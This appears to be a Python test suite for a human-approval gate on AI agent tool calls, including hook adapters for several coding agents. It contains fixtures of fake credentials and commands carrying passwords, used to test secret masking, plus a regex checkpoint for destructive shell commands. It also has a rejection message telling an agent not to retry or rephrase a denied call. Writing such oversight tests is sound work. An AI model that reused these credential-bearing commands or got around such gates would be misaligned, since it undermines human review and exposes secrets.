import sys; sys.path.insert(0, {str(HERE)!r})
import hitl
gate = hitl.Gate({str(config)!r}, server_url={where.url!r})
gate.call("delete_records", {CALL!r}, lambda **a: print("ran", *a),
          request_id={name!r})
""", stdin=subprocess.DEVNULL)
        assert until(lambda: desk.server.waiters.get(name), 30)

    def ends(self, number: int = 0) -> tuple[int, str, str]:
        self.process.send_signal(number)
        out, err = self.process.communicate(timeout=30)
        return self.process.returncode, out, err


def test_killed_and_started_again(make_gate, desk):
    """An agent that was killed and starts again with its request_id gets the
    decision it asked for; the reviewer sees one card; it runs once."""
    config = make_gate(desk).configuration.path
    Agent(desk, desk, config, "agent-1").ends(signal.SIGKILL)
    assert until(lambda: not desk.server.waiters.get("agent-1"))
    again = Agent(desk, desk, config, "agent-1")
    assert len(desk.waiting()) == 1
    desk.decide("agent-1")
    code, out, err = again.ends()
    assert (code, out) == (0, "ran table condition\n"), err
    assert [line.partition(" (")[0] for line in err.splitlines()] == [
        'delete_records waits for a person: "Delete users where id = 3"; '
        f"review it at {desk.url}/review/agent-1",
        "delete_records approved by ana: runs now"]     # no logging set up
    assert newest(desk) == ("approved", "executed")


def test_interrupted(make_gate, desk):
    """Ctrl-C withdraws the request: nobody waits any more. A call that is
    interrupted once it is claimed, and before it ran, is recorded as failed:
    cancelled, not as running. The library sets no handler of its own for
    other signals."""
    go, config = threading.Event(), make_gate(desk).configuration.path

    def slow(path: str, request: bytes):
        answer = desk.raw(request, 20)
        if path.startswith("/claim/"):
            go.wait(10)
        yield answer
    with Wire(slow) as wire:
        for name, number in (("waiting", signal.SIGINT),
                             ("claimed", signal.SIGINT),
                             ("terminated", signal.SIGTERM)):
            agent = Agent(wire, desk, config, name)
            if name == "claimed":
                desk.decide(name)
                assert until(lambda: desk.state("claimed")["outcome"])
            code, out, err = agent.ends(number)
            assert (code, out) == (-number, ""), err
        go.set()
    assert desk.state("waiting")["status"] == "withdrawn"
    assert [tuple(row) for row in desk.rows(
        "SELECT outcome, outcome_text FROM pending_reviews "
        "WHERE request_id = 'claimed'")] == [("failed", "cancelled")]


@pytest.mark.parametrize("step, end", [
    ("", ("withdrawn", None, None)),            # while nobody has decided
    ("POST /pending", ("withdrawn", None, None)),
    ("GET /pending/", ("approved", None, None)),
    ("POST /claim/", ("approved", "failed", "cancelled")),
    ("POST /outcome/", ("approved", "executed", ""))])
def test_cancelled(make_gate, desk, step, end):
    """acall that is cancelled at any step runs nothing, and the server hears
    of it, however late it hears of the call. Once the tool has returned,
    its result is returned, whatever is cancelled while it is reported."""
    there, go, ran = threading.Event(), threading.Event(), []

    def slow(path: str, request: bytes):
        asked = request.decode()
        if step and asked.startswith("GET"):
            desk.decide("r-1")          # the reply brings the decision
        answer = b"" if step == "POST /pending" else desk.raw(request, 20)
        if step and asked.startswith(step):
            there.set()
            go.wait(10)
        yield answer or desk.raw(request, 20)       # a late request, or reply

    async def story():
        call = asyncio.ensure_future(make_gate(wire).acall(
            "delete_records", CALL, lambda **a: ran.append(a),
            request_id="r-1"))
        assert await asyncio.to_thread(until, lambda: there.is_set() or (
            not step and desk.server.waiters.get("r-1")))
        for _ in range(3):
            call.cancel()
            await asyncio.sleep(0)
        if step == "POST /outcome/":
            go.set()
        with contextlib.suppress(asyncio.CancelledError):
            assert await call is None and ran == [CALL]
        assert call.cancelled() != bool(ran)
        go.set()
    with Wire(slow) as wire:
        asyncio.run(story())
        assert until(lambda: desk.rows("SELECT 1 FROM pending_reviews")
                     and newest(desk, "status, outcome, outcome_text") == end)
    assert bool(ran) == (step == "POST /outcome/")


def test_cancelled_while_asking(make_gate, desk):
    """Once an acall that is cancelled has ended, its request is withdrawn, even if
    it reached the server late: the process may end now."""
    def slow(path: str, request: bytes):
        if request.startswith(b"POST /pending"):
            time.sleep(0.5)
        yield desk.raw(request, 20)
    with Wire(slow) as wire, pytest.raises(TimeoutError):
        asyncio.run(asyncio.wait_for(make_gate(wire).acall(
            "delete_records", CALL, lambda **_: None), 0.2))
    assert newest(desk, "status") == ("withdrawn",)


def test_progress_is_told(make_gate, desk, caplog, monkeypatch):
    """Progress is a WARNING that names the tool, the page and what is left."""
    monkeypatch.setattr(hitl, "PROGRESS_SECONDS", 0)
    result = calling(make_gate(desk, RULES.replace(
        "[gate]", "[gate]\npoll_seconds = 0.1")), request_id="r-1")
    line = f"waiting for review of delete_records at {desk.url}/review/r-1, "
    assert until(lambda: re.search(re.escape(line) + r"\d+ s left",
                                   caplog.text))
    desk.decide("r-1")
    assert result() == CALL
    assert {r.levelname for r in caplog.records} == {"WARNING"}


def test_an_agent_imports_little():
    """`import hitl` in an agent loads no server, database or network."""
    heavy = {"http.server", "http.client", "sqlite3", "urllib.request",
             "asyncio", "ssl", "email", "argparse", "socketserver", "html"}
    out = command(f"import sys; sys.path[:0] = [{str(HERE)!r}]; import hitl; "
                  f"print({heavy!r} & set(sys.modules))",
                  argv=[sys.executable, "-I", "-c"])
    assert (out.stdout, out.stderr) == ("set()\n", "")


def test_asyncio(make_gate, desk):
    """Forty calls of acall wait at once, and the event loop goes on all the
    while; call() takes no coroutine function."""
    gate = make_gate(desk)

    async def execute(**given) -> dict:
        return given

    async def story() -> None:
        calls = [asyncio.ensure_future(gate.acall(
            "delete_records", {"n": n}, execute)) for n in range(40)]
        cards = await asyncio.to_thread(desk.waiting, 40)
        assert len(cards) == 40 and not any(call.done() for call in calls)
        for card in cards:
            await asyncio.to_thread(desk.decide, card["request_id"])
        assert await asyncio.gather(*calls) == [{"n": n} for n in range(40)]
    asyncio.run(story())
    with pytest.raises(TypeError, match="delete_records is async: await gate.ac"):
        gate.call("delete_records", CALL, execute)


# ---- guard ----

class Colour(hitl.enum.Enum):
    RED = "red"


class Point(hitl.NamedTuple):
    x: int


def test_guarded_things(make_gate, desk):
    """guard holds def, async def, methods, partials and callables, whatever
    the name; every parameter is shown by its name, defaults and fixed
    arguments filled in, an enum by its value, a tuple as a list, and given
    back; self and cls are hidden in methods only, and what hides something
    has no session."""
    gate, ctx = make_gate(desk), object()
    guard = gate.guard(checkpoint="delete-records")
    hides = gate.guard(checkpoint="delete-records", hide=["ctx"])

    class Things:
        @guard
        def method(self, table, limit=10):
            return table, limit

        @classmethod
        @guard
        def of_class(cls, *, table):
            return cls.__name__, table

        async def __call__(self, table):
            return table

    @guard
    def all_kinds(a, /, b, *rest, c=3, **more):
        return a, b, rest, c, more

    @guard
    def no_method(self, cls=Colour.RED):
        return self, cls
    partial = functools.partial(lambda a, b, c, d: (a, b, c, d), 1, d=4)
    partial.__doc__ = "then a partial of it has it inside"
    inside = functools.partial(partial, 2)
    for call, arguments, value, has_session in (
            (lambda: Things().method("t"), {"table": "t", "limit": 10},
             ("t", 10), False),
            (lambda: Things.of_class(table=1), {"table": 1}, ("Things", 1), False),
            (lambda: asyncio.run(guard(Things())("t")), {"table": "t"}, "t", True),
            (lambda: all_kinds(1, 2, 4, 5, d=6, more=7),
             {"a": 1, "b": 2, "rest": [4, 5], "c": 3, "d": 6, "more": 7},
             (1, 2, (4, 5), 3, {"d": 6, "more": 7}), True),
            (lambda: no_method(1), {"self": 1, "cls": "red"}, (1, Colour.RED), True),
            (lambda: hides(lambda ctx, table: (ctx, table))(ctx, "t"),
             {"table": "t"}, (ctx, "t"), False),
            (lambda: guard(partial)(2, c=3), {"a": 1, "b": 2, "c": 3, "d": 4},
             (1, 2, 3, 4), True),
            (lambda: guard(inside)(c=3), {"a": 1, "b": 2, "c": 3, "d": 4},
             (1, 2, 3, 4), True),
            (lambda: guard(lambda at, by: (at, by))((1, 2), by=Colour.RED),
             {"at": [1, 2], "by": "red"}, ((1, 2), Colour.RED), True),
            (lambda: guard(len)("xy"), {"obj": "xy"}, 2, True)):
        result = in_background(call)
        card, = desk.waiting()
        assert card["arguments"] == arguments
        assert card["checkpoint_id"] == "delete-records"
        desk.decide(card["request_id"])
        assert result() == value
        assert bool(newest(desk, "session")[0]) == has_session


def test_guard_keeps_the_face(make_gate):
    """guard keeps name, doc, signature and types, evaluated where all can
    be; a wrong call is the function's own TypeError and asks nobody; the
    function itself is __wrapped__."""
    def delete_records(table: str, limit: int = 10) -> int:
        """Delete."""

    def delete_later(table: Nowhere) -> int:        # noqa: F821
        """Delete."""
    gate = make_gate("http://127.0.0.1:9")
    for function, types in (
            (delete_records, {"table": str, "limit": int, "return": int}),
            (delete_later, {"table": "Nowhere", "return": "int"})):
        guarded = gate.guard(function)
        found = hitl.inspect.signature(guarded)
        assert guarded.__wrapped__ is function
        assert (guarded.__name__, guarded.__doc__) == (function.__name__,
                                                       "Delete.")
        assert guarded.__annotations__ == types == {
            name: p.annotation for name, p in found.parameters.items()} | {
            "return": found.return_annotation}
        with pytest.raises(TypeError, match="table"):
            guarded()
    with pytest.raises(TypeError, match="given twice: a"):
        gate.guard(name="delete")(lambda a, /, **more: 1)(1, a=2)


def test_guard_and_names(make_gate):
    """A guard that no checkpoint can match is a ConfigError where it
    decorates, with the cures, unless it is optional; an id in place of a
    function is asked about; a call that nothing stops gets its very
    arguments."""
    gate = make_gate("http://127.0.0.1:9", EFFECTS)
    for tool in ("purge_users", "read_file"):
        with pytest.raises(hitl.ConfigError) as bad:
            gate.guard(name=tool)(len)
        assert str(bad.value) == (
            f'@gate.guard on "{tool}" would hold nothing: no checkpoint in '
            f"{gate.configuration.path} matches that name (add a checkpoint "
            "whose action_pattern does, or name one: @gate.guard(checkpoint="
            '"..."), or let the file decide: @gate.guard(optional=True))')
    purge = gate.guard(name="purge_users", optional=True)(
        lambda table, *rest, **more: (table, *rest, *more.values()))
    for value in (Point(1), Colour.RED, (1, 2), object()):      # no JSON
        got = purge(value, value, more=value)
        assert all(each is value for each in got) and len(got) == 3
    for name, word in (("nope", "nope"), ("reads", 'has effect "allow"')):
        with pytest.raises(hitl.ConfigError, match=word):
            gate.guard(checkpoint=name)(purge)
    with pytest.raises(TypeError, match="did you mean @gate.guard"):
        gate.guard("delete-records")
    for more in ({"checkpoint": "no-drop"}, {"name": "drop_all"}):
        with pytest.raises(hitl.DeniedError):
            gate.guard(**more)(len)("xy")


def test_not_guarded(make_gate):
    """A generator, a class, a framework's tool object, a wrong order of
    decorators and a hide that names no parameter are a TypeError."""
    async def async_generator():
        yield 1

    def generator(self):
        yield 1
    gate, kind = make_gate(), type("Tool", (), {"__call__": generator})
    tool = type("Tool", (), {"name": "left by a framework", "__call__": len})()
    for what in (async_generator, generator, kind(), kind, tool, 7, max,
                 functools.partial(generator), functools.partial(kind),
                 classmethod(len), property(len), staticmethod(len)):
        with pytest.raises(TypeError, match="guard cannot hold"):
            gate.guard(what)
    with pytest.raises(TypeError, match="hide: .* has no parameter ctx"):
        gate.guard(hide="ctx")(lambda table: 1)


# ---- arguments, context, names ----

CYCLE: list = []
CYCLE.append(CYCLE)
FAR_DOWN: list = []
for _ in range(5000):
    FAR_DOWN = [FAR_DOWN]
NOT_JSON = [
    (1, 2), [{"a": [(1,)]}], {1: 2}, {1: 2, "1": 3}, {None: 1}, {True: 1},
    object(), b"x", {1}, 1j, float("nan"), 1e400, 10 ** 5000, CYCLE, FAR_DOWN,
    Path("x"), "\ud800", {"\udfff": 1}, Point(1), [Colour.RED],
    hitl.Status.WAITING]


def test_arguments_that_are_no_json(make_gate, desk):
    """Arguments must be JSON that reads back as an equal value of the same
    types; others are a HitlError that says what to do and begins no line of
    the log, ask nobody and run nothing; whatever is JSON runs as given."""
    gate, ran = make_gate(desk), []
    for value in NOT_JSON:
        with pytest.raises(hitl.HitlError, match="pass text, finite") as bad:
            gate.call("delete_records", {"a\nname": value}, ran.append)
        assert bad.value.reason == "bad-arguments"
        assert "\n" not in bad.value.message and "name: " in bad.value.message
    for tool, name, size, most in (
            ("delete_records", "rows", 66_000, 65_536),
            ("delete_or_edit_file", "path", 263_000, 262_144)):
        with pytest.raises(hitl.HitlError) as large:
            gate.call(tool, {name: "x" * size}, ran.append)
        assert large.value.message == (
            f"{tool}: the arguments are {size + 11} bytes, and a person "
            f"reviews at most {most}: do it in smaller steps, or pass a "
            "reference, such as a file name, in place of the content")
    for what in (
            {"tool": None}, {"tool": "delete_\udc80"}, {"arguments": None},
            {"arguments": [1]}, {"arguments": {1: 2, "1": 3}},
            {"timeout_seconds": float("nan")}, {"timeout_seconds": "30"},
            {"request_id": 7}, {"request_id": "\ud800"}, {"request_id": "a b"},
            {"session": "user \udce8"}, {"session": 7}, {"request_id": ""},
            {"request_id": 0}, {"request_id": b"x"}):
        with pytest.raises(hitl.HitlError):
            gate.call(**{"tool": "delete_records", "arguments": CALL,
                         "execute": ran.append} | what)
    with pytest.raises(TypeError, match="unexpected keyword timeout"):
        gate.call("delete_records", CALL, ran.append, timeout=3)
    assert ran == [] and not desk.rows("SELECT 1 FROM pending_reviews")
    values = {"n": -0.0, "big": 2 ** 70, "empty": [], "yes": True, "f": 1.0,
              "t": "\u202e\x00\U0001f600 \\ud800", "d": {"": [None, {}]}}
    assert repr(decided(gate, desk, arguments=values)()) == repr(values)


PLAIN = {"a": [1, None, True, "x", {"b": [2]}], "max_tokens": 512,
         "password": True, "secret": ""}
CONTEXTS = [
    (PLAIN, PLAIN), ([PLAIN, PLAIN], [PLAIN, PLAIN]), (None, "the gate's"),
    (lambda: {"b": (1, (2,))}, {"b": [1, [2]]}), ("\ud800", "\\ud800"),
    ({1: 1.5, None: {3}}, {"1": 1.5, "None": [3]}), (1j, "1j"),
    (float("nan"), "nan"), (-1e400, "-inf"), (10 ** 5000, "[a int]"),
    (FAR_DOWN, None), (CYCLE, None)]


def test_context(make_gate, desk):
    """context is a value or a callable, the call's over the gate's; what is
    not JSON, or nests too deep, goes as text; one that raises refuses."""
    gate = make_gate(desk, context="the gate's")
    results = [calling(gate, context=given, request_id=f"r-{number}")
               for number, (given, _) in enumerate(CONTEXTS)]
    assert len(desk.waiting(len(results))) == len(results)
    for number, (_, wanted) in enumerate(CONTEXTS):
        desk.decide(f"r-{number}")
        assert results[number]() == CALL
        stored = json.loads(desk.rows(
            "SELECT agent_context FROM pending_reviews WHERE request_id = ?",
            f"r-{number}")[0][0])
        assert wanted is None or stored == wanted
    with pytest.raises(KeyError):
        gate.call("delete_records", CALL, dict, context=lambda: {}["no"])
    assert len(desk.rows("SELECT 1 FROM pending_reviews")) == len(CONTEXTS)


def test_a_large_context(monkeypatch):
    """A context above 512 KiB goes as its beginning and end, with size and
    SHA-256, and says so, and no secret is cut so that it shows; up to there
    it goes in full; one that links to itself over and over takes no time."""
    assert hitl.MAX_CONTEXT == 512 * 1024 >= 8 * hitl.KEPT
    for name, value in (("MAX_CONTEXT", 50_000), ("KEPT", 16_000),
                        ("CONTEXT_NODES", 1000)):
        monkeypatch.setattr(hitl, name, value)
    full = "b" + "x" * (hitl.MAX_CONTEXT - 4) + "e"
    assert hitl.snapshot(full, "") == full
    over = full + "\u00e9\"\\" * 100 + "e"
    data, sent = json.dumps(over, ensure_ascii=False), hitl.snapshot(over, "")
    assert sent["sha256"] == hashlib.sha256(data.encode()).hexdigest()
    assert f"{len(data.encode())} bytes" in sent["note"]
    assert data.startswith(sent["beginning"]) and data.endswith(sent["end"])
    assert len(sent["beginning"]) == hitl.KEPT
    for at in (hitl.KEPT - 20, 60_000 - hitl.KEPT - 5):
        text = "x " * 30_000
        text = f"{text[:at]} ghp_{CANARY} {text[at:]}"
        assert not leaks(hitl.snapshot(text, ""))
    for part in ("pw=a ", "\N{CAT}", "\ud800"):      # masking makes some longer
        assert len(hitl.READABLE.encode(hitl.snapshot(part * 40_000, "")).encode(
            )) < 2 * hitl.END_BYTES + 1000
    me: dict = {"name": "me"}
    me["children"] = [{"parent": me}] * 8
    assert hitl.plain_json(me)["children"] == [{"parent": "[contains itself]"}] * 8
    value = ["x"]
    for _ in range(20):
        value = [value, value]
    assert json.dumps(hitl.plain_json(value)).count("x") < 1000


CANARY = "c4n4ryAbCdEf0123456789XyZ"      # like a token
PASSWORD = "hunter2horse"                # like a person's


@dataclass
class State:
    password: str = CANARY

    @property
    def as_shown(self):     # by another object's repr()
        return type("Shown", (), {"__repr__": lambda _: repr(self)})()


FAR_STATE: object = State()
for _ in range(25):
    FAR_STATE = {"x": FAR_STATE}
NAMES = """password passwords db_password PGPASSWORD MYSQL_PWD token tokens
    api_key apiKey API-KEY access_token client_secret secrets Authorization
    cookie aws_secret_access_key credentials private_key session_id jwt otp
    pin Set-Cookie passphrase pass DB_PASS dbPass pw auth SIGNING_KEY
    ENCRYPTION_KEY SecretAccessKey SessionToken X-Api-Key PaSsWoRd OPENAI_KEY
    unsealKeys recovery_key totp mfaCode cvv rootpw PHPSESSID GH_PAT kennwort
    contrase\u00f1a \u043f\u0430\u0440\u043e\u043b\u044c code_verifier two_factor_code
    \uff50\uff41\uff53\uff53word pass\u200bword recovery_phrase ntlm_hash
    client_assertion""".split()
TOKENS = """sk-# sk_live_# sk-ant-# ghp_# ghs_# github_pat_# glpat-# xoxb-1-#
    AIza## hf_# npm_# pypi-# ya29.# GOCSPX-# gsk_# pplx-# ntn_# shpat_# SG.#.#
    hvs.# dapi0123456789abcdef01234567# dop_v1_# whsec_# 1//0# key-#
    https://api.telegram.org/bot9279055934:AA#AAAAAAAA/getMe
    https://hooks.slack.com/services/T0/B0/# eyJhbGciOiJ9.#.# https://x/?key=#
    https://x/cb#sig=# h:5432:db:user:# ## patAbCdEfGhIjKlMn.#
    https://hooks.zapier.com/hooks/catch/1/#
    """.split()
VENDORS = """access-production-{u} pat-na1-{u} sdk-{u} ovsxp_{u} {x}NRAL1 {x}-us12
    access_token$production$abcdefgh$12345678{x} 1/1234567890123:{x} {x}.{x}
    2/1234567890123/1234567890123:{x} 1000.{x}.{x} dose{x}
    v1.0-01234567abcdef0123456789-{x}
    {x}-01234567-01234567 oy2{x}abcdefghijk nsec1{x}abcdefghijklmnopqrst
    A3-ABCDEF-ABCDEF-ABCDE-ABCDE-ABCDE-ABCDE hf_{y}{y} tvly-dev-{y}{y} rzp_live_{y}
    WPL_AP1.AbCdEfGh.{y} bot123456789:AA{y}{y}""".format(
        u="12345678-1234-1234-1234-123456789abc", x="0123456789abcdef" * 2,
        y="AbCdEfGhIjKlMnOpQrStUv").replace("abcdefNRAL1", "abcdef0123NRAL").split()
PLACES = """postgres://ana:#@db/x postgres://a:p@#@db/x postgres://a:p/#@db/x
    redis://:#@host/0 https://#@github.com/o/r https://oauth2:#@gitlab.com/o/r
    DB_PASSWORD=# https://x/?access_token=#
    {"password":"#"} {"x":"{\\"password\\":\\"#\\"}"} <password>#</password>
    AccountKey=#== Pwd=#;Encrypt=yes
    //registry.npmjs.org/:_authToken=# ana:$apr1$# <t:ApiToken\tx='1'>#</t:ApiToken>
    """.split(" ") + """Authorization: Bearer #|basic #==|password='p) #'
    {"password": "a b #"}|Authorization: Token #|{'Authorization': 'Token #'}
    -H "X-Auth-Token: #"|Cookie: a=123; connect.sid=#|Set-Cookie: auth=#; Path=/
    curl -u admin:# https://h|curl -b 'session=#' h|mysqldump --password # db
    mysql -u root -p#|sshpass -p # ssh h|docker login -u me -p #
    requests.get(u, auth=('user', '#'))|the password is #|I set the token to #.
    the password is "#"|"db_password" : "#"|machine h login a password #
    const apiKey = '#';|API key: #|pass phrase: #|Pass the secret key: #
    <key>password</key> <string>#</string>|Password for ana@example.org: #
    HTTPBasicAuth('user', '#')|[["X-Api-Key", "#"]]|basic_auth: [ana, #]
    <p><password><![CDATA[#]]></password>|<p name="db.password" value="#"/>
    curl -b 'a=b; sid=#' h|log in with password # please|psk=#|-keypass #
    CREATE USER ana IDENTIFIED BY '#'|password (prod): #|- **API Key**: `#`
    set -gx GITHUB_TOKEN #|setx API_KEY "#" /M|ENV API_KEY #|curl -sSu ana:# h
    aws configure set aws_secret_access_key #|gh secret set NPM_TOKEN --body #
    password = \"\"\"#\"\"\"|'token': b'#'|password=SecretStr('#')|API_KEY ?= #
    {"name": "DB_PASSWORD", "value": "#"}|{"value": "#", "name": "DB_PASSWORD"}
    Authorization: Digest username="a", response="#\"""".replace(
        "\n", "|").split("|") + [
    "\npassword: two # words", "\npassphrase = correct #", "\npass = #",
    "Password:\n#", "Password:\r\n#", "\npassword: |\n  #\n  #\nuser: ana",
    "\n- name: API_KEY\n  value: #", "\npassword: 'it''s #'",
    "\n| password | # |", "\npassword\t#",
    "-----BEGIN RSA PRIVATE KEY-----\n#\n-----END RSA PRIVATE KEY-----",
    "\n#\n-----END RSA PRIVATE KEY-----"]
SECRETS = [{name: PASSWORD} for name in NAMES] + [
    shape.replace("#", CANARY) for shape in TOKENS] + [
    f"text with {shape} in it".replace("#", PASSWORD) for shape in PLACES] + [
    f"AKIA{CANARY.upper()[:16]}", {f"ghp_{CANARY}": 1}, State(), [(State(),)],
    State().as_shown, FAR_STATE, {"password": {"deep": [PASSWORD]}},
    {"auth": ["ana", PASSWORD]}, [["X-Api-Key", PASSWORD], ["Accept", "*/*"]],
    ["Host", "h", "X-Api-Key", PASSWORD, "Accept", "*/*"],
    [("Authorization", f"Token {PASSWORD}")], {"password": b"x" + PASSWORD.encode()},
    {"headers": [{"name": "X-Api-Key", "value": PASSWORD}]},
    f"echo {PASSWORD} | sudo -S ls", f"echo '{PASSWORD}' | gh auth login --with-token",
    {"label": "password", "value": PASSWORD}, {"key": "token", "val": PASSWORD},
    {"ParameterKey": "DBPassword", "ParameterValue": PASSWORD},
    {"name": "db_password", "default": PASSWORD},
    {"headers": [f"Authorization: Basic {PASSWORD}="]},
    ["curl", "-u", f"ana:{PASSWORD}"], ["tool", "--password", PASSWORD],
    ["mysql", "-u", "root", f"-p{PASSWORD}"], ["dbPass", PASSWORD],
    [1, "--dbPass", f"two {PASSWORD} words"], ["x", f"password: two {PASSWORD}"],
    ["sshpass", "-p", PASSWORD, "ssh", "h"], ["redis-cli", "-a", PASSWORD],
    f"|password|{PASSWORD}|", f"| Database password (prod) | {PASSWORD} |",
    ["--dbpass", PASSWORD], ["mysqlpwd", PASSWORD], f"--token '{PASSWORD}'",
    ["mongod", "--auth", "--password", PASSWORD],
    ["docker", "login", "--password-stdin", "--token", PASSWORD],
    ["gpg", "--passphrase", f"two\n{PASSWORD}"], ["db_password", f"a\n{PASSWORD}"],
    ["-----BEGIN PRIVATE KEY-----", PASSWORD, PASSWORD, "-----END PRIVATE KEY-----"]]
PROSE = """\
The password is wrong, so the token is expired, the secret is to be rotated.
Please reset my password; authentication failed with status 401. Basic rules.
Tokens: 1234 in, 567 out; max_tokens: 512; token_count=99; session: 12 min.
git show 3f786850e387550fdab836ed7e6dc881de23001b; sha256:e3b0c44298fc1c149afb
id 123e4567-e89b-12d3-a456-426614174000 /usr/lib/python3.11/Foo/BarBazIndexV2
return self.userProfileRepository.findByEmailAddress2(emailAddress2)
We pass the arguments; the passenger passed the compass; author: Ana; monkey: x
ssh -p 2222 host; mkdir -p a/b; docker run -p 8080:80 -u 1000:1000 nginx
https://example.com:8080/path?email=a@b.c, mailto:a@b.c, ssh://git@host/x
SELECT * FROM users WHERE password IS NOT NULL AND token IN (1, 2)
If the API key is missing, the answer is 401; primary_key: id; secretary: Bob
password = None
auth: none
x, "password": null, "token": "", x; token: $TOKEN, x; token_type: bearer
api_key = os.environ["API_KEY"]
self.token = parser.nextToken()
password = getpass.getpass("Password: ")
const token = await getToken();
def check_password(password: str) -> bool:
if token == "expired": return
class TokenBucket:
    def __init__(self): pass
"integrity": "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP=="
UPDATE users SET password_changed = true"""


def masked(value):
    return hitl.snapshot(hitl.plain_json(value), "")


def leaks(value) -> bool:
    text = value if isinstance(value, str) else json.dumps(value)
    return CANARY[:8].lower() in text.lower() or PASSWORD in text


def test_what_is_masked():
    """What looks like a secret, by a key's name or by its shape, is masked,
    also in a dataclass, a repr(), deep down, inside JSON text, in pairs, in a
    command's words and over several lines; ordinary text is not."""
    assert [s for s in SECRETS if leaks(masked(s))] == []
    assert [s for s in VENDORS if s in masked(f"use {s} now")] == []
    plain = [{"name": "timeout", "value": "30s"}, {"name": "tokens", "value": 512},
             {"title": "Reset password", "text": "Click"}, [["Accept", "*/*"]],
             {"name": "refresh_token.py", "content": "import os"}]
    assert masked(plain) == plain
    assert masked({"otp": 271828, "pin": 1234}) == {
        "otp": "[masked, 6 characters]", "pin": "[masked, 4 characters]"}
    listed = PROSE.splitlines()
    assert (masked(PROSE), masked(listed)) == (PROSE, listed)
    assert masked(["Authorization: Basic x", "Accept: */*", 7, "token"]) == [
        "Authorization: [masked, 7 characters]", "Accept: */*", 7, "token"]
    token = "own-token-0123456789-abc"
    for form in (token, base64.b64encode(token.encode()).decode()):
        assert form not in hitl.masked_text(f"x {form} y", token)


def test_masking_is_linear():
    """The worst there is takes no noticeable time."""
    for unit in ("eyJ-", "password: ", 'password="', "-----BEGIN ", "://", "aA1",
                 "mysql ", "--password ", "\n", "<password ", "ab-",
                 '"name": "password", ', '"value": "', "echo a | ", "env token ",
                 "ab_aaaaaaaaaaaaaaaa."):
        began = time.thread_time()
        masked(unit * (32_768 // len(unit)) + "!")
        assert time.thread_time() - began < 1, unit     # 0.1 here


def test_canaries(make_gate, make_desk, tmp_path, caplog, capfd):
    """A secret is masked as its length before it leaves the process: request
    body, database, page, log lines, outcome text, also where that is cut;
    arguments are not masked silently."""
    desk, sinks = make_desk(agent_token=AGENT_TOKEN), {"body": ""}

    def tap(path: str, request: bytes):
        sinks["body"] += request.partition(b"\r\n\r\n")[2].decode()
        yield desk.raw(request, 20)

    def fail(**_):
        raise OSError(f"{AGENT_TOKEN} {SECRETS[0]} {'x' * 420} ghp_{CANARY}")
    with Wire(tap) as wire, pytest.raises(OSError):
        decided(make_gate(wire, token=AGENT_TOKEN), desk, fail, context=[
            SECRETS[0], State(), f"ghp_{CANARY}", f"x {AGENT_TOKEN}"])()
    request_id, context, outcome = newest(
        desk, "request_id, agent_context, outcome_text")
    assert json.loads(context)[0] == {"password": "[masked, 12 characters]"}
    assert "[mas" in outcome
    sinks |= {"page": desk.page(f"/review/{request_id}"), "desk": desk.page(),
              "log": caplog.text, "lines": "\n".join(desk.lines),
              "streams": "".join(capfd.readouterr())} | {
        path.name: path.read_bytes().decode("latin-1")
        for path in tmp_path.rglob("hitl.db*")}
    for name, text in sinks.items():
        assert not leaks(text) and AGENT_TOKEN not in text, name
    assert decided(make_gate(desk, token=AGENT_TOKEN), desk, arguments={
        "password": CANARY})() == {"password": CANARY}


# ================================= Adapters ================================
# Each dialect as a table of stdin, exact stdout and exit status; the proxy
# against a scripted server on pipes; the prefix with signals and statuses.

SHELL = """
[gate]
timeout_seconds = 20
poll_seconds = 0.3

[[checkpoint]]
checkpoint_id = "move"
action_pattern = "move_*"
description_template = "Move {path}"
editable = true

[[checkpoint]]
checkpoint_id = "soon"
action_pattern = "soon"
description_template = "Soon"
timeout_seconds = 0.3
lifetime_seconds = 60

[[checkpoint]]
checkpoint_id = "shell-delete"
kind = "shell"
action_pattern = '\\brm\\b|\\bgit push\\b'
description_template = "Run {command}"

[[checkpoint]]
checkpoint_id = "delete"
action_pattern = "delete_*"
description_template = "Delete {path}"
"""
WHY = ("rejected by ana: no. The call did not run. Do not retry it or rephrase "
       "it; tell the user, or do something else.")
BASH = {"session_id": "5fdd", "cwd": "/w", "hook_event_name": "PreToolUse",
        "tool_name": "Bash", "tool_input": {"command": "CMD"}}
CLAUDE = BASH | {"transcript_path": "t.jsonl", "tool_use_id": "toolu_1"}
COPILOT = {"sessionId": "s", "cwd": "/w", "toolName": "bash",
           "toolArgs": {"command": "CMD"}}
CLINE = {"clineVersion": "", "taskId": "conv_1", "hookName": "tool_call",
         "preToolUse": {"toolName": "run_commands",
                        "parameters": {"commands": '["CMD"]'}}}


def said(event, **answer):
    return {"hookSpecificOutput": {"hookEventName": event} | answer}


# what approves and what rejects, in the forms that several agents share
PRE = [said("PreToolUse", permissionDecision=decision,
            permissionDecisionReason=why)
       for decision, why in (("allow", "approved by ana"), ("deny", WHY))]
CAMEL = ({"permissionDecision": "allow"},
         {"permissionDecision": "deny", "permissionDecisionReason": WHY})
CANCEL = {"cancel": False}, {"cancel": True, "errorMessage": WHY}
HOOKS = {       # name -> its input around CMD, approved, rejected, and whether
    # an error is printed like a rejection
    "claude": (CLAUDE, *PRE, False),
    "opencode": (CLAUDE | {"hook_source": "opencode-plugin"}, *PRE, True),
    "codex": (CLAUDE | {"turn_id": "1", "tool_name": "shell", "tool_input": {
        "command": ["bash", "-lc", "CMD"]}}, {}, PRE[1], False),
    "permission": (
        CLAUDE | {"hook_event_name": "PermissionRequest"},
        said("PermissionRequest", decision={"behavior": "allow"}), said(
            "PermissionRequest", decision={"behavior": "deny", "message": WHY}),
        False),
    "gemini": (
        CLAUDE | {"hook_event_name": "BeforeTool", "tool_name": "run_shell_command"},
        {"decision": "allow"}, {"decision": "deny", "reason": WHY}, False),
    "copilot": (COPILOT, *CAMEL, True),
    "copilot text": (COPILOT | {"toolArgs": '{"command": "CMD"}'}, *CAMEL, True),
    "copilot pascal": (BASH, *PRE, True),
    "copilot permission": (
        COPILOT | {"hookName": "permissionRequest"}, {"behavior": "allow"},
        {"behavior": "deny", "message": WHY, "interrupt": False}, True),
    "cline": (CLINE | {"tool_call": {"name": "run_commands", "input": {
        "commands": ["CMD"]}}}, *CANCEL, True),
    "cline parameters": (CLINE, *CANCEL, True),
    "cursor": (
        {"hook_event_name": "beforeShellExecution", "conversation_id": "c",
         "command": "CMD", "cwd": "/w"}, {"permission": "allow"},
        {"permission": "deny", "user_message": WHY, "agent_message": WHY}, False),
}


def hook_call(dialect, shell, **more) -> str:
    """What an agent sends its hook about a shell command."""
    text = json.dumps(HOOKS[dialect][0] | more)
